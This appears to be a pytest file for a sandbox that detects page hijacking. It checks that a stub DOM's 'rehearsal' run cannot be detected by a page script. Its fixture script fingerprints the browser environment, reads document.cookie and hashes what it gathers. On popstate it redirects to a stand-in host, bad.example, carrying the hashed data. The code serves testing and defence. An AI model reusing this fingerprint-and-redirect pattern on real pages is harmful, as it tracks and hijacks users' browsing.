"""The stub rehearses before there is a page: no page may find a trace of it."""

import asyncio
import json
from typing import Any

import pytest

from tests.support.scripts import PHONE, job_of
from unhijack.adapters.sandbox.pool import V8Sandbox
from unhijack.core.evidence import Failure
from unhijack.wiring.sandbox import stub_dom

DESKTOP = PHONE | {"mobile": False, "touch": False, "width": 1280, "height": 720, "ratio": 1}
WEBKIT = PHONE | {"webkit": True}
BOT = PHONE | {"bot": True}

LOOK = r"""
const told = [];
const met = new Map();
const tell = (path, value) => {
  if (typeof value === 'symbol' || (typeof value !== 'object' && typeof value !== 'function') || value === null) {
    told.push(`${path} = ${typeof value} ${String(value)}`);
    return;
  }
  if (met.has(value)) { told.push(`${path} is ${met.get(value)}`); return; }
  if (met.size > 20000) return;
  met.set(value, path);
  told.push(`${path} : ${Object.isExtensible(value)} ${typeof value === 'function' ? Function.prototype.toString.call(value) : Object.prototype.toString.call(value)}`);
  for (const key of Reflect.ownKeys(value)) {
    const found = Reflect.getOwnPropertyDescriptor(value, key);
    const at = `${path}.${String(key)}`;
    if (!found) { told.push(`${at} is not there`); continue; }
    told.push(`${at} ${found.writable} ${found.enumerable} ${found.configurable}`);
    if ('value' in found) tell(at, found.value);
    else {
      if (found.get) tell(`${at}<get>`, found.get);
      if (found.set) tell(`${at}<set>`, found.set);
      try { tell(`${at}()`, value[key]); } catch (error) { told.push(`${at} throws ${error}`); }
    }
  }
  tell(`${path}<prototype>`, Object.getPrototypeOf(value));
};
for (const name of ['$1', '$9', 'input', 'lastMatch', 'lastParen', 'leftContext', 'rightContext']) told.push(`${name} ${RegExp[name]}`);
told.push(String(new Event('x').timeStamp), String(performance.now()), String(Date.now()), String(Math.random()));
told.push(String(setTimeout(() => {}, 1)), URL.createObjectURL(new Blob(['x'])), String(history.length), document.cookie);
for (const name in window) told.push(name);
for (const name in document.body) told.push(name);
tell('window', window);
told.push(document.documentElement.outerHTML);
document.addEventListener('click', (event) => told.push(`click ${event.timeStamp} ${event.target.tagName}`));
addEventListener('popstate', () => {
  told.push(document.documentElement.outerHTML, String(performance.now()), String(scrollY), String(setTimeout(() => {}, 1)));
  let sum = 0;
  for (const line of told) for (let i = 0; i < line.length; i++) sum = (Math.imul(sum, 31) + line.charCodeAt(i)) | 0;
  location = `http://bad.example/?${told.length}&${sum}`;
});
"""
HTML = "<html lang=en><body class=a><p id=b>Bread.</p><a href=/x>More</a><img src=/a.jpg><script></script>"


def found(stub: str, device: dict[str, Any]) -> dict[str, Any]:
    async def run() -> bytes | Failure:
        sandbox = V8Sandbox(stub, workers=1)
        try:
            return await sandbox.run(job_of(LOOK, html=HTML, device=device))
        finally:
            await sandbox.close()

    answer = asyncio.run(run())
    assert not isinstance(answer, Failure)
    trace: dict[str, Any] = json.loads(answer)
    return trace


@pytest.mark.parametrize("device", [PHONE, DESKTOP, WEBKIT, BOT])
def test_no_page_can_tell_that_there_was_a_rehearsal(device: dict[str, Any]):
    stub = stub_dom()
    unrehearsed = stub.replace("return rehearse();", "return 0;")
    assert unrehearsed != stub

    with_one, without = found(stub, device), found(unrehearsed, device)

    assert with_one == without
    assert with_one["cut"] == ""
    (url,) = [intent["url"] for intent in with_one["intents"]]
    assert int(url.partition("?")[2].partition("&")[0]) > 1_000, "it looked at a browser"
